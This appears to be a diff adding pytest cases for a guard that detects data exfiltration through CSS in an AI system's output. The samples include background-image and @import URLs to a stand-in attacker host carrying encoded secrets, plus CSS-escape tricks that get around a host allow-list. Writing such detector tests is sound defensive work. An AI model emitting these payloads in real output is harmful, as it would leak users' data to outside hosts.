@@ -246,3 +246,62 @@ def test_the_allow_list_is_checked_against_the_host_a_browser_reads(run_guard: A
 )
 def test_destinations_a_browser_reads_as_no_outside_host(run_guard: Any, output: str) -> None:
     assert run_guard("exfiltration")(output, "output") == []
+
+
+@pytest.mark.parametrize(
+    ("output", "url", "score"),
+    [
+        (
+            '<div style="background:url(https://evil.test/p.png?d=c2VjcmV0c2VjcmV0c2VjcmV0)">',
+            "https://evil.test/p.png?d=c2VjcmV0c2VjcmV0c2VjcmV0",
+            0.95,
+        ),
+        (
+            "<p style='background-image: url(\"https://evil.test/a.png\")'>hi</p>",
+            "https://evil.test/a.png",
+            0.7,
+        ),
+        ("<td style=background:URL(//evil.test/a.png)>", "//evil.test/a.png", 0.7),
+        (
+            "<style>\nbody { background-image: url( 'https://evil.test/a.png' ) }\n</style>",
+            "https://evil.test/a.png",
+            0.7,
+        ),
+        ('<style>@import "https://evil.test/x.css";</style>', "https://evil.test/x.css", 0.7),
+        (
+            "<style>a{background:url(https:\\2f\\2f evil.test/a.png)}",
+            "https:\\2f\\2f evil.test/a.png",
+            0.7,
+        ),
+    ],
+)
+def test_css_that_loads_from_an_outside_host_is_an_image(
+    run_guard: Any, output: str, url: str, score: float
+) -> None:
+    (found,) = run_guard("exfiltration")(output, "output")
+    assert (found.entity, found.score, output[found.start : found.end]) == ("image", score, url)
+
+
+def test_css_is_checked_against_the_allow_list_after_its_escapes() -> None:
+    policy = Policy(
+        guards={"prompt_injection": False, "exfiltration": {"allowed_hosts": ["acme.example"]}}
+    )
+    quiet = '<div style="background:url(https://cdn.acme.example/a.png)">'
+    assert scan(quiet, direction="output", policy=policy).text == quiet
+    # \40 is "@": https://acme.example@evil.test/p.png
+    out = "<style>a{background:url(https://acme.example\\40 evil.test/p.png)}</style>"
+    verdict = scan(out, direction="output", policy=policy)
+    assert verdict.text == "<style>a{background:url([image removed])}</style>"
+
+
+@pytest.mark.parametrize(
+    "output",
+    [
+        '<div style="background:url(/img/bg.png)">',
+        "<style>a::after { content: 'https://evil.test/a.png' }</style>",
+        "```css\nbody { background: url(https://example.org/bg.png) }\n```",  # not rendered
+        "<style>a{color:red}</style> then url(https://evil.test/a.png) in prose",
+    ],
+)
+def test_css_that_loads_nothing_outside_stays_quiet(run_guard: Any, output: str) -> None:
+    assert run_guard("exfiltration")(output, "output") == []
